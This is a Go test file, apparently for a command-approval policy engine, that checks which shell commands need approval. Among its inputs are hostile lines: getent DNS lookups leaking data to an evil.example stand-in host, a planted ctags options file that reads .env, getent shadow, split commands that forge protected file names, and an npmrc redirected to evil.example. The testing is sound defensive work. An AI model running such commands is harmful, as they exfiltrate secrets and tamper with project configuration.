package policy

import (
	"testing"

	"github.com/stretchr/testify/require"

	"approvalbot/internal/approval"
)

// asksForEach judges lines, each of which must ask.
func asksForEach(t *testing.T, lines ...string) {
	t.Helper()
	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
	for _, line := range lines {
		j := judge(e, lineCall(t, line))
		require.Equal(t, approval.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
	}
}

// runsUnasked judges lines, each of which must run.
func runsUnasked(t *testing.T, lines ...string) {
	t.Helper()
	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
	for _, line := range lines {
		j := judge(e, lineCall(t, line))
		require.Equal(t, approval.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
	}
}

// runsProjectCode judges lines that run or take in the project's own files: they follow
// the key projectCode.
func runsProjectCode(t *testing.T, lines ...string) {
	t.Helper()
	e := engine(t, func(c *Config) { c.ExecSecurity, c.ProjectCode = "full", "ask" })
	for _, line := range lines {
		j := judge(e, lineCall(t, line))
		require.Equal(t, approval.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
		require.Contains(t, j.Assessment.ReasonCodes, "runs-project-code", line)
	}
}

// TestAdversary_T13_CtagsObeysItsDirectory: its files of options print .env and write
// where they like. Only as the first word does --options=NONE keep it from them.
func TestAdversary_T13_CtagsObeysItsDirectory(t *testing.T) {
	t.Parallel()
	asksForEach(t, "ctags -x src/a.c", "universal-ctags -x src/a.c", "ctags -x --options=NONE src/a.c", "ctags --options=x.ctags -x src/a.c",
		"ctags --options=NONE --options=x -x src/a.c", "ctags --options NONE -x src/a.c", "ctags --options=NONE src/a.c", "ctags --options=NONE -x .env",
		`mkdir -p .ctags.d && printf '%s\n' -L .env > .ctags.d/a.ctags && ctags -x src/a.c`)
	runsUnasked(t, "ctags --options=NONE -x src/a.c", "universal-ctags --options=NONE -x --kinds-c=f src/a.c")
	asksForEach(t, "touch .ctags.d/a.ctags", "echo x > ctags.d/a.ctags", "echo -x > .ctags")
}

// TestAdversary_T13_GetentSendsNames: it asks a name server, as dig does, and is an external read.
func TestAdversary_T13_GetentSendsNames(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped, strict)
	for _, line := range []string{"getent hosts leak-abc123.evil.example", "getent ahosts leak-abc123.evil.example", "getent ahostsv4 a.evil.example", "getent ahostsv6 a.evil.example",
		"getent networks a.evil.example", "for n in a b; do getent hosts $n.evil.example; done"} {
		j := judge(e, lineCall(t, line))
		require.Equal(t, approval.OutcomeAsk, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
	}
	asksForEach(t, "getent hosts aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.evil.example", "getent shadow root", "getent -s hosts:dns passwd x.evil.example", "getent gshadow")
	runsUnasked(t, "getent passwd root", "getent group", "getent services 443/tcp")
}

// TestAdversary_T13_SplitMakesProtectedNames: the names of its files begin as it is told.
func TestAdversary_T13_SplitMakesProtectedNames(t *testing.T) {
	t.Parallel()
	asksForEach(t, "split -l1 -a1 --additional-suffix=.json notes.txt .mc", "split -l1 -a1 notes.txt .npmr", "split -l1 -a3 notes.txt .en", "split -a1 notes.txt Jenkinsfil",
		"split -a1 notes.txt .gitmodule", "split -a1 notes.txt sub/.bashr", "split notes.txt .", "split -a3 notes.txt prod.", "split -a2 notes.txt prod.e", "split -a3 notes.txt sub/",
		"csplit -f .mc -b %d.json notes.txt /x/", "csplit -f prod.p notes.txt /x/")
	runsUnasked(t, "split -l 100 a.csv part-", "split -d -b 1M --additional-suffix=.csv a.csv out/p-", "split -l 1000 a.csv a.csv.", "split -l 100 notes.txt build/chunk_")
}

// TestAdversary_T13_ProjectCodeIsSaidToBe: tools that run or take in what the project's
// files say.
func TestAdversary_T13_ProjectCodeIsSaidToBe(t *testing.T) {
	t.Parallel()
	runsProjectCode(t, "bazel", "bazelisk", "ng", "pants", "buck2", "pre-commit", "helm lint .", "helm lint chart", "helm template .", "helm template x ./chart",
		"kustomize build .", "kubectl kustomize overlays/dev", "trivy image alpine:3.20", "packer version", "packer", "pulumi whoami", "pulumi stack ls", "terraform providers",
		"vagrant version", "sls --version", "cdk version", "vercel ls", "cabal update", "docker compose ps",
		"docker compose config -q", "docker compose config --images", "docker-compose config --services", "podman compose config -q",
		"go", "go version", "go env GOPATH", "go help build", "go doc fmt", "go --help", "pip", "pip --version", "pip list", "pip check", "pip3 freeze", "pip show x",
		"pytest --help", "yarn --help", "eslint --help", "cargo build --help", "bazel --help", "timeout 5 pytest --help", "lerna --help", "rake --help")
	asksForEach(t, "grunt --help", "gulp --help", "husky --help", "tsx --help", "np --help")
	for _, line := range []string{"make --help", "ls --help", "npm --help", "git --help", "docker --help"} {
		require.Equal(t, []string{"read-only-command"}, judge(engine(t, shipped), lineCall(t, line)).Assessment.ReasonCodes, line)
	}
	asksForEach(t, "supervisorctl status", "helmfile list", "packer --help x", "echo registry=http://evil.example > dir/etc/npmrc", "echo x > .lfsconfig",
		"docker compose config", "helm lint /etc/x", "helm template x https://evil.example/c.tgz")
}
